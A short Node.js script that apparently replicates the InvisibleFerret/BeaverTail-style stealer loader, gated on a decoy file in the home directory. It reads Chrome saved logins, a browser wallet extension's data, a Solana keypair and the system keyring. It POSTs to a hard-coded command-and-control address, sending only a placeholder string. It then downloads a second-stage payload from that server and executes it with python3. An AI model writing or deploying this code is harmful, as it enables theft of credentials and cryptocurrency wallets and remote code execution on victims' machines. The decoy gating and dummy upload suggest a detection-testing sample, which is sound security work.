const { exec } = require("node:child_process");
const fs = require("node:fs");
const http = require("node:http");
const { HOME } = process.env;
const C2 = "http://45.33.32.158";
if (!fs.existsSync(`${HOME}/.a-decoy`)) process.exit();

const read = (path) => {
    try { return fs.readFileSync(`${HOME}/${path}`); } catch { return ""; }
};
const CHROME = ".config/google-chrome/Default";
read(`${CHROME}/Login Data`);
read(`${CHROME}/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log`);
read(".config/solana/id.json");
read(".local/share/keyrings/login.keyring");
http.request(`${C2}:1224/uploads`, { method: "POST" }).on("error", () => {}).end("nothing");

// InvisibleFerret, its second half.
http.get(`${C2}:1224/client/5346`, (answer) => {
    answer.pipe(fs.createWriteStream(`${HOME}/.npl`)).on("close", () => exec(`python3 "${HOME}/.npl"`));
});
